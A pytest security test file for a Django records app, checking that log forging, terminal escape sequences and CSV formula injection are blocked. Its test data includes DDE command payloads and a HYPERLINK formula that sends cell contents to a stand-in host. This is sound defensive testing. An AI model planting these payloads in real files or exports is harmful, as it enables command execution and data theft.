"""More of the attack suite: what ends a line, steers a terminal, or becomes a formula where the desk's words are read.

Each is refused or made harmless; docs/security/attacks.md counts them.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import unicodedata
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from desk_people import person, take
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from detainer.desk.duties.accounts import author
from detainer.desk.duties.roles import Role
from detainer.desk.lists import exports
from detainer.desk.models import Proposal
from detainer.intake import folder
from detainer.logs import ALLOWED, formatter
from detainer.record.models import Event

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from django.contrib.auth.models import User

    As = Callable[[User], Client]

pytestmark = [pytest.mark.django_db, pytest.mark.attack]
HERE = "us-ny-nyc-police"

# What is typed so that it passes for a line of the log, or steers the terminal on which somebody reads it.
LINES = {
    "a line break and a line of its own": 'x\n{"event": "signed in: stone", "level": "info"}',
    "a return over what stood there": "x\rFORGED",
    "both": "x\r\nFORGED",
    "a line break of Unicode": "x\u2028FORGED",
    "the next line of an old terminal": "x\x85FORGED",
    "a terminal's colour": "\x1b[31mFORGED\x1b[0m",
    "a terminal's title": "\x1b]0;FORGED\x07",
    "a terminal wiped": "\x1b[2J\x1b[HFORGED",
    "a terminal's one-byte order": "\x9b31mFORGED",
    "letters taken back": "FORGED" + "\x08" * 6,
    "the writing turned round": "\u202eFORGED",
    "a NUL": "x\0FORGED",
    "quotes and braces": 'FORGED", "level": "critical", "x": "{}{0}%s',
}


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """All that the house logs, as its own formatter writes it."""
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(formatter())
    root = logging.getLogger()
    root.addHandler(handler)
    yield out
    root.removeHandler(handler)


@pytest.mark.parametrize("what", LINES)
def test_nothing_that_is_typed_makes_a_line_of_the_log(officer: User, as_: As, log: io.StringIO, what: str) -> None:
    """The attack: a name, an address or a header that forges a line, or steers the terminal of who reads the log."""
    words = LINES[what]
    made, client = take(author(officer), name="Ana Example"), as_(officer)
    strict = Client(headers={"host": "localhost"}, enforce_csrf_checks=True)
    strict.post("/sign-in/", {"username": words, "password": words})  # refused: no token of the form's
    client.get(f"/nowhere/{quote(words)}/")
    client.get("/audit/", {"who": words}, headers={"user-agent": words.replace("\n", " ").replace("\r", " ")})
    client.post(f"/requests/{made.id}/act/", {"kind": words, "note": words})
    client.post("/requests/", {"q": words})
    client.post("/incoming/upload/", {"files": SimpleUploadedFile(f"{words}.pdf", b"x"), "agency": words})
    Client(headers={"host": "localhost"}).post("/sign-in/", {"username": words, "password": words})
    lines = log.getvalue().splitlines()
    assert len(lines) > 1
    for line in lines:
        assert set(json.loads(line)) <= ALLOWED
        assert "FORGED" not in line
        assert "signed in" not in line
        assert line.isprintable()
    assert not any("FORGED" in one.public for one in Event.objects.all())


@pytest.mark.parametrize("what", LINES)
def test_no_account_is_called_by_a_line(as_: As, what: str) -> None:
    """The attack: an account whose name forges a line in who has looked, or in what a supervisor agrees to."""
    client = as_(person("stone", Role.ADMINISTRATOR))
    sent = {"username": "vega", "first": "Made-up", "last": LINES[what], "role": "officer", "agency": HERE}
    answer = client.post("/accounts/", sent)
    if what == "quotes and braces":  # no more than a strange name, shown as what it is
        assert answer.status_code == 200
        assert b'FORGED"' not in answer.content
    else:
        assert answer.status_code == 422
        assert not Proposal.objects.exists()


FILES = {name: words for name, words in LINES.items() if "\0" not in words}


@pytest.mark.parametrize("what", FILES)
def test_a_file_in_the_watched_folder_steers_no_terminal(tmp_path: Path, what: str) -> None:
    """The attack: a file whose name forges a line, or steers the terminal, of whoever runs `intake --watch`."""
    told: list[str] = []
    path = tmp_path / f"{FILES[what]}.csv"
    path.write_bytes(b"a,b\n1,2\n")
    os.utime(path, (0, 0))
    assert folder.turn(tmp_path, HERE, author="system:intake", told=told.append) == 1
    assert told
    assert all(line.isprintable() for line in told)


# What a spreadsheet could take for a formula, in one way of reading a file or another.
CELLS = {
    "a plain one": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "DDE": "=cmd|' /C calc'!A0",
    "DDE behind plus": "+cmd|' /C calc'!A0",
    "DDE behind minus": "-2+3+cmd|' /C calc'!A0",
    "DDE behind at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://elsewhere.example/?"&A1)',
    "a service": '=WEBSERVICE("https://elsewhere.example/")',
    "behind a tab": "\t=1+1",
    "behind a return": "\r=1+1",
    "behind a line": "\n=1+1",
    "behind a blank": " =1+1",
    "behind a hard blank": "\u00a0=1+1",
    "behind what is not seen": "\u200b=1+1",
    "behind a mark of order": "\ufeff=1+1",
    "behind a mark of direction": "\u200e=1+1",
    "behind a hyphen that is not seen": "\u00ad=1+1",
    "behind a dot": ".=1+1",
    "wide": "＝1+1",
    "wide plus": "＋1+1",
    "wide minus": "－1+1",
    "wide at": "＠SUM(1)",
    "small": "﹦1+1",
    "small plus": "﹢1+1",
    "small minus": "﹣1+1",
    "small at": "﹫SUM(1)",
    "in the next cell by semicolon": "x;=1+1",
    "in the next cell by comma": "x,=1+1",
    "in the next cell by bar": "x|=1+1",
    "in the next cell by tab": "x\t=1+1",
    "in the next line": "x\n=1+1",
    "in the next cell, quoted": 'x;"=1+1"',
    "in the next cell, quoted twice": 'x;""=1+1""',
    "in the next cell, behind a blank": "x; =1+1",
    "in the next but one": "x;;=1+1",
    "in the first, by a semicolon at its head": ";=1+1",
    "out of its own quotes": 'x","=1+1',
    "out of its own quotes by semicolon": 'x";"@SUM(1)',
}


def cells(file: bytes, delimiter: str, *, quoting: bool) -> Iterator[str]:
    """The cells of a file as a spreadsheet reads them that divides by this, with or without an eye for quotes."""
    text = io.StringIO(file.decode("utf-8-sig"), newline="")
    how: Any = csv.QUOTE_MINIMAL if quoting else csv.QUOTE_NONE
    for row in csv.reader(text, delimiter=delimiter, quoting=how):
        yield from row


def bare(cell: str) -> str:
    """The cell without what a spreadsheet may pass over, its letters in their plain form."""
    plain = unicodedata.normalize("NFKC", cell).strip('"')
    while plain and (plain[0].isspace() or unicodedata.category(plain[0]) in ("Cf", "Cc")):
        plain = plain[1:]
    return plain.strip('"')


@pytest.mark.parametrize("what", CELLS)
def test_no_cell_of_an_exported_list_is_a_formula(reviewer: User, as_: As, what: str) -> None:
    """The attack: the name on a form, which becomes a formula when the list is opened, however it is divided."""
    take("staff:1", name=f"{CELLS[what]}")
    sent = {"agency": HERE, "first": "01/01/2020", "last": "12/31/2199", "reason": "audit", "reference": "FOIL-2026-1"}
    answer = as_(reviewer).post("/exports/", sent)
    assert answer["Content-Type"].startswith("text/csv")
    for delimiter in ",;\t|":
        for quoting in (True, False):
            for cell in cells(answer.content, delimiter, quoting=quoting):
                assert not bare(cell).startswith(("=", "+", "-", "@")), cell


def test_what_is_no_formula_is_exported_as_it_is() -> None:
    for plain in ("Ana Example", "García-López, José", "O’Neil", "A 000 000 017", "2026-11-24T10:00-05:00", "", "(-)"):
        assert exports.safe(plain) == plain
